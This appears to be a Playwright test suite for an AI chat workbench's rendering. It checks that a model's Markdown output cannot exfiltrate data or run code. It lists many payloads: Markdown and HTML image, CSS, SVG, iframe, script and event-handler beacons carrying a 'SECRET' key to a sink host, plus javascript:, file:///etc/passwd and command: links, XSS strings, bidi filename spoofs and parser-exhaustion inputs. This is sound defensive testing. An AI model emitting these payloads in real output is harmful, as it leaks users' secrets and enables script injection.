import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import { useShells } from '../../support/useShells.ts';
import {
  answerItem,
  noticeItem,
  personItem,
  sampleSummary,
  toolItem,
} from '../../support/sampleConversation.ts';
import { startSink, type Sink } from '../../support/sink.ts';
import { until } from '../../support/until.ts';
import { openWorkbenchShell, type WorkbenchFixture } from '../../support/workbenchShell.ts';

/** What a model may write to get something out of the window, with `%` for the sink's origin. */
const leaks: Readonly<Record<string, string>> = {
  'a picture in Markdown': '![x](%/markdown?key=SECRET)',
  'a picture by reference': '![x][r]\n\n[r]: %/reference?key=SECRET',
  'a picture with a title over lines': '![x](%/title\n"a\nb")',
  'a picture inside a link': '[![x](%/inner)](%/outer)',
  'an img element': '<img src="%/img"><IMG SRC=%/upper>',
  'an img with srcset': '<img srcset="%/srcset 1x" src=x>',
  'a CSS url': '<style>body{background:url(%/css)}@import "%/import";</style>',
  'a style attribute': '<p style="background:url(%/inline)">x</p>',
  'an SVG':
    '<svg><image href="%/svg"/><use href="%/use"/><foreignObject><img src="%/fo"></foreignObject></svg>',
  'a link element':
    '<link rel=stylesheet href="%/link"><link rel=icon href="%/icon"><link rel=preload as=image href="%/preload">',
  'a look-ahead':
    '<link rel=prefetch href="%/prefetch"><link rel=dns-prefetch href="%"><link rel=preconnect href="%">',
  'a base': '<base href="%/base/"><img src="relative">',
  'a meta refresh': '<meta http-equiv=refresh content="0;url=%/refresh">',
  'a frame': '<iframe src="%/iframe"></iframe><object data="%/object"></object><embed src="%/embed">',
  'a media element':
    '<video src="%/video" poster="%/poster" autoplay></video><audio src="%/audio" autoplay></audio>',
  'a form': '<form action="%/form"><button autofocus>x</button><input type=image src="%/input"></form>',
  'a script': '<script src="%/script"></script><script>fetch("%/fetch")</script>',
  'an event handler':
    '<p onclick="fetch(`%/click`)" onpointerover="fetch(`%/over`)">x</p><details open ontoggle="fetch(`%/toggle`)">',
  MathML: '<math><mtext><table><mglyph><style><img src="%/math"></style></mglyph></table></mtext></math>',
  'a template and a slot': '<template shadowrootmode=open><img src="%/shadow"></template>',
  'a Mermaid fence': '```mermaid\ngraph TD; A["<img src=%/mermaid>"]\nclick A "%/mermaid-click"\n```',
  'a fence with markup in its language': '```"><img/src=%/language>\nx\n```',
  'a table with pictures': '| a |\n| - |\n| ![x](%/cell) <img src=%/cell2> |',
  'markup that changes when it is parsed twice': '<noscript><p title="</noscript><img src=%/mutate>">',
  'a comment that ends early': '<!--><img src=%/comment>-->',
  'a character reference': '&lt;img src=%/reference2&gt; &#60;img src=%/reference3&#62;',
};

/** What may look like a link and must lead nowhere. */
const deadLinks = [
  '[x](command:workbench.action.terminal.new)',
  '[x](vscode:extension/evil)',
  '[x](vscode-webview://abc/x)',
  '[x](file:///etc/passwd)',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '[x](blob:null/1)',
  '[x](mailto:a@b.c)',
  '[x](//evil.example/x)',
  '[x](\\\\evil\\share)',
  '[x](http:evil)',
  '<command:x>',
  '<file:///etc/passwd>',
  'www.example.com and a@b.c and main.py',
];

describe('A model’s words in the workbench', () => {
  const shells = useShells({ viewport: { width: 700, height: 900 } });
  let sink: Sink;
  let page: Page;

  before(async () => {
    sink = await startSink();
  });
  after(() => sink.close());
  beforeEach(async () => {
    page = await shells.context.newPage();
    sink.hits.length = 0;
    sink.connections = 0;
  });

  const open = (fixture: WorkbenchFixture) => openWorkbenchShell(page, shells.shellUrl('workbench'), fixture);
  const openAnswer = (markdown: string) => open({ shown: { items: [answerItem(1, markdown)] } });

  /** Moves over and clicks everything that was drawn, as a person might. */
  async function touchAll(): Promise<void> {
    for (const place of await page.locator('.rows *').all()) {
      await place.hover({ force: true, timeout: 1000 }).catch(() => undefined);
      await place.dispatchEvent('click').catch(() => undefined);
    }
  }

  async function assertPlain(): Promise<void> {
    const elements =
      'img, style, link, iframe, object, embed, form, input, video, audio, base, meta, script, svg';
    assert.equal(await page.locator('.rows').locator(elements).count(), 0);
    assert.equal(await page.locator('.rows [href], .rows [src], .rows [style], .rows [id^=user]').count(), 0);
    const handlers = await page.evaluate(() =>
      [...document.querySelectorAll('.rows *')].flatMap((element) =>
        element.getAttributeNames().filter((name) => name.startsWith('on')),
      ),
    );
    assert.deepEqual(handlers, []);
  }

  for (const [name, markdown] of Object.entries(leaks)) {
    it(`[WB-01] [WB-02] D1, D2: ${name} reaches nothing`, async () => {
      const shell = await openAnswer(`before\n\n${markdown.replaceAll('%', sink.origin)}\n\nafter`);
      await page.getByText('after', { exact: true }).waitFor();
      await assertPlain();
      await touchAll();
      assert.deepEqual(sink.hits, []);
      assert.equal(sink.connections, 0);
      assert.deepEqual(shell.bad, []);
      assert.equal(page.url(), shells.shellUrl('workbench'));
    });
  }

  it('control: the same markup does reach the sink in a page without the seal', async () => {
    const html = Object.values(leaks)
      .filter(
        (markdown) =>
          markdown.startsWith('<') && !markdown.startsWith('<base') && !markdown.startsWith('<meta'),
      )
      .join('\n')
      .replaceAll('%', sink.origin);
    await page.setContent(html);
    const wanted = [
      '/img',
      '/css',
      '/inline',
      '/svg',
      '/link',
      '/iframe',
      '/video',
      '/script',
      '/fetch',
      '/toggle',
    ];
    await until(() => wanted.every((path) => sink.hits.includes(path)));
  });

  it('control: a picture of Markdown that is drawn as HTML does reach the sink', async () => {
    const { default: createParser } = await import('markdown-it');
    await page.setContent(createParser({ html: true }).render(`![x](${sink.origin}/markdown)`));
    await until(() => sink.hits.includes('/markdown'));
  });

  it('[WB-01] the policy alone refuses a picture and a style that would get past the sanitiser', async () => {
    await openAnswer('text');
    await page.waitForSelector('.markdown');
    const blocked = await page.evaluate(async (origin) => {
      const seen: string[] = [];
      addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
      const image = new Image();
      image.src = `${origin}/image`;
      document.body.append(image);
      const data = new Image();
      data.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
      await fetch(`${origin}/fetch`).catch(() => undefined);
      await new Promise<void>((resolve) => {
        const look = () => (seen.length >= 3 ? resolve() : void requestAnimationFrame(look));
        look();
      });
      try {
        document.body.innerHTML = '<b>x</b>';
      } catch (error) {
        seen.push((error as Error).name);
      }
      return seen;
    }, sink.origin);
    assert.deepEqual(
      [...new Set(blocked)].sort(),
      ['TypeError', 'connect-src', 'img-src', 'require-trusted-types-for']
        .filter((each) => blocked.includes(each))
        .sort(),
    );
    assert.ok(blocked.filter((each) => each === 'img-src').length >= 2);
    assert.ok(blocked.includes('connect-src') && blocked.includes('TypeError'));
    assert.deepEqual(sink.hits, []);
  });

  it('[WB-02] only http and https are links, and none is followed by the page', async () => {
    const shell = await openAnswer(deadLinks.join('\n\n'));
    await page.waitForSelector('.block');
    assert.deepEqual(await page.locator('[data-to]').allTextContents(), []);
    await touchAll();
    // Touching everything touches the row's own buttons too: what must not be asked for is a link.
    assert.doesNotMatch(JSON.stringify(shell.asked), /openLink/);
  });

  it('[WB-02] a web link asks the extension with its whole address, by click and by Enter', async () => {
    const shell = await openAnswer(
      '[bank.example](https://evil.example/?q=1#x) and https://xn--pple-43d.com/ and <http://a.example>',
    );
    const links = page.locator('[data-to]');
    await links.first().waitFor();
    assert.deepEqual(await links.allTextContents(), [
      'bank.example',
      'https://xn--pple-43d.com/',
      'http://a.example',
    ]);
    assert.equal(await links.first().getAttribute('title'), 'https://evil.example/?q=1#x');
    await links.first().click();
    await links.nth(1).focus();
    await page.keyboard.press('Enter');
    await until(() => shell.asked.length === 2);
    assert.deepEqual(
      shell.asked.map(({ params }) => (params as { act: string; value: string }).value),
      ['https://evil.example/?q=1#x', 'https://xn--pple-43d.com/'],
    );
    assert.equal(page.url(), shells.shellUrl('workbench'));
    assert.deepEqual(sink.hits, []);
  });

  it('[WB-03] what is hidden in titles, paths, details, code, notices and prose is shown escaped', async () => {
    const trick = 'safe\u202Egpj.exe\u200B\u{E0041}';
    await open({
      shown: {
        conversation: sampleSummary({ title: trick }),
        items: [
          personItem(1, { text: trick, mentions: [{ kind: 'file', path: trick }] }),
          toolItem(2, {
            title: `${trick}\u001b[2K`,
            detail: trick,
            changes: [
              { changeId: 'x', path: trick, kind: 'edit', addedLines: 1, removedLines: 0, undone: false },
            ],
          }),
          answerItem(3, `prose ${trick}\n\n\`\`\`\n${trick}\n\`\`\``),
          noticeItem(4, { text: trick, action: { command: 'x', title: trick } }),
        ],
      },
    });
    await page.locator('.tool-head').click();
    const text = await page.evaluate(() => document.body.textContent);
    assert.doesNotMatch(text, /[\u202E\u200B\u001b]|\u{E0041}/u);
    const escaped = /safe\\u\{202E\}gpj\.exe\\u\{200B\}\\u\{E0041\}/g;
    assert.equal(text.match(escaped)?.length, 10);
    assert.match(text, /\\u\{1B\}\[2K/);
  });

  it('[WB-02] markup in every other text is text', async () => {
    const attack = `<img src=x onerror="window.owned=1"><a href="command:x">x</a>`;
    const { channel } = await open({
      shown: {
        projectName: attack,
        conversation: sampleSummary({ title: attack }),
        recent: [sampleSummary({ title: attack })],
        items: [
          personItem(1, { text: attack, mentions: [{ kind: 'card', card: attack }] }),
          toolItem(2, { title: attack, detail: attack }),
          noticeItem(3, { text: attack, action: { command: attack, title: attack } }),
        ],
      },
      suggestions: [{ mention: { kind: 'file', path: attack }, label: attack, detail: attack }],
    });
    channel.notify('workbench/message', { text: attack });
    await page.getByRole('alert').waitFor();
    await page.locator('.tool-head').click();
    await page.locator('textarea').fill('@<img');
    await page.waitForSelector('[role=option]');
    await assertPlain();
    assert.equal(await page.locator('img, a').count(), 0);
    assert.equal(await page.evaluate(() => Reflect.get(window, 'owned') as unknown), undefined);
  });

  const heavy: Readonly<Record<string, string>> = {
    'one token of a megabyte': 'x'.repeat(1_000_000),
    'a line of a megabyte in a fence': `\`\`\`\n${'y'.repeat(1_000_000)}\n\`\`\``,
    'a huge table': `| a | b |\n| - | - |\n${'| one | **two** |\n'.repeat(20_000)}`,
    'brackets without an end': '['.repeat(60_000),
    'stars without an end': '*a '.repeat(30_000),
    'ticks without an end': '`a'.repeat(30_000),
    'quotes in quotes': `${'>'.repeat(5000)} x`,
    'lists in lists': Array.from({ length: 400 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
    'definitions without an end': '[a]: <'.repeat(20_000),
    entities: '&#x3c;'.repeat(50_000),
  };
  for (const [name, markdown] of Object.entries(heavy)) {
    it(`[WB-04] ${name} is drawn in bounded time and does not widen the page`, async () => {
      await openAnswer(markdown);
      await page.waitForSelector('.block, .code-block', { state: 'attached', timeout: 20_000 });
      assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth));
      await page.locator('textarea').fill('still here', { timeout: 10_000 });
    });
  }

  it('[WB-04] a megabyte that arrives token by token leaves the composer usable', async () => {
    const { channel } = await open({ shown: { items: [answerItem(1, '', { ending: 'streaming' })] } });
    const piece = 'z'.repeat(50_000);
    for (let at = 0; at < 20; at++) {
      channel.notify('workbench/delta', {
        summary: sampleSummary({ state: 'answering' }),
        items: [],
        text: { seq: 1, at: at * piece.length, append: piece },
      });
    }
    await page.getByText('Copy gives all of it').waitFor({ timeout: 20_000 });
    await page.locator('textarea').fill('still here', { timeout: 10_000 });
  });

  it('a delta that does not fit makes the page ask for everything again', async () => {
    const { channel, counts } = await open({
      shown: { items: [answerItem(1, 'abc', { ending: 'streaming' })] },
    });
    await page.getByText('abc').waitFor();
    const before = counts.readies;
    channel.notify('workbench/delta', {
      summary: sampleSummary(),
      items: [],
      text: { seq: 1, at: 9, append: 'later' },
    });
    await until(() => counts.readies > before);
  });
});
